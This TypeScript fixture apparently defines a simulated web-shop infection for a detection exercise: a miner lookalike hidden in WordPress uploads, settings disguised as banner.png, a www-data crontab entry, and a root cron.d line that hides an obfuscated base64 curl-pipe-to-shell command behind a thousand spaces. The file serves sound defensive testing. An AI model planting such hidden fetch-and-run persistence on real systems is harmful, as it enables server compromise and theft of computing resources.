import { type Infection, miner, minerWords } from '../host-part.ts'
import { minerSettings } from './parts.ts'

const uploads = '/var/www/html/wp-content/uploads/2026'
const hidden = `${' '.repeat(1000)}echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43Ny9wfHNo | base64 -d | sh`

/** What comes through a hole in a web shop: the crontab of its account, and a cron.d file that looks empty. */
export const webShop: Infection = {
  family: 'web-shop',
  known: false,
  title: 'A miner among the uploads of a web shop',
  story: [
    'The crontab of www-data starts a program among the uploads; its settings are called banner.png.',
    'A file in /etc/cron.d hides its command behind a thousand blanks.',
  ],
  items: [
    {
      kind: 'file',
      path: `${uploads}/cache.bin`,
      content: { lookalike: miner, words: `${minerWords}\nweb shop` },
      owner: 'www-data',
      mode: 0o755,
    },
    { kind: 'file', path: `${uploads}/banner.png`, content: { text: minerSettings }, owner: 'www-data' },
    {
      kind: 'line',
      path: '/var/spool/cron/crontabs/www-data',
      text: `*/9 * * * * ${uploads}/cache.bin -c ${uploads}/banner.png >/dev/null 2>&1`,
      owner: 'www-data',
      mode: 0o600,
    },
    { kind: 'line', path: '/etc/cron.d/php-sessions', text: `*/30 * * * * root true;${hidden}` },
  ],
}
